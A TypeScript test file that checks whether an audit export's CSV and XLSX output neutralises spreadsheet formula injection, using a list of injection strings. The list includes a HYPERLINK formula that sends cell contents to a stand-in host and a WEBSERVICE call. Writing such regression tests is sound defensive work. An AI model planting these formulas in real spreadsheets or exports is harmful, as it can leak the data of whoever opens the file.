import { beforeAll, expect, test } from "vitest";
import { unguardFormulas } from "../../src/spreadsheets/formula-guard.ts";
import { type CalcCell, describeWithCalc, openInCalc } from "../support/calc.ts";
import { ADMIN, openPages } from "../support/console.ts";
import { writeEverywhere } from "../support/hostile-office.ts";
import { formulaStrings, hostileStrings } from "../support/hostile-strings.ts";
import { describeWithShared } from "../support/shared.ts";
import { useFilledOffice } from "../support/shipped-office.ts";

/** What people might write that a spreadsheet would run. */
const FORMULAS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "  =1+1",
  "\t=1+1",
  "＝1＋1",
  '=HYPERLINK("https://x.example/?"&A1,"見積書")',
  "=WEBSERVICE(A1)",
  "備考\n=1+1",
];

describeWithShared("strings that have broken other programs, exported from the pages", () => {
  describeWithCalc("as another program reads them back", () => {
    const office = useFilledOffice();
    const formulas = () => [...FORMULAS, ...formulaStrings()];
    beforeAll(async () => {
      await writeEverywhere([...formulas(), ...hostileStrings()], office().app.desk(), ADMIN);
    });

    const exported = async (kind: string, format: string) => {
      const { app, clock } = office();
      const path = `/audit/export/${kind}`;
      const response = await openPages(app, { clock }).browser().post(path, { format });
      expect(response.status).toBe(200);
      return new Uint8Array(await response.arrayBuffer());
    };

    test.each(["csv", "xlsx"] as const)("are no formula in %s, and stay text", async (format) => {
      const { matches, answers } = openInCalc(format, {
        matches: await exported("matches", format),
        answers: await exported("answers", format),
      });

      for (const cells of [matches, answers]) {
        expect(cells.length).toBeGreaterThan(formulas().length);
        expect(cells.filter(({ formula }) => formula !== undefined)).toEqual([]);
        const texts = new Set(cells.filter(({ type }) => type === "string").map(shown));
        expect(formulas().filter((text) => !texts.has(withoutBlanks(text)))).toEqual([]);
      }
    });

    test("would run, were they not marked: the reader tells", () => {
      const { plain } = openInCalc("csv", { plain: Buffer.from('"=1+1","text"\r\n') });

      expect(plain).toMatchObject([
        { formula: "of:=1+1", type: "float" },
        { text: "text", type: "string" },
      ]);
    });
  });
});

/** The text without the marks, and without blanks, with which each format deals in its own way. */
function shown({ text }: CalcCell): string {
  return withoutBlanks(unguardFormulas(text));
}

function withoutBlanks(text: string): string {
  return text.replace(/[\s\p{Cc}]+/gu, "");
}
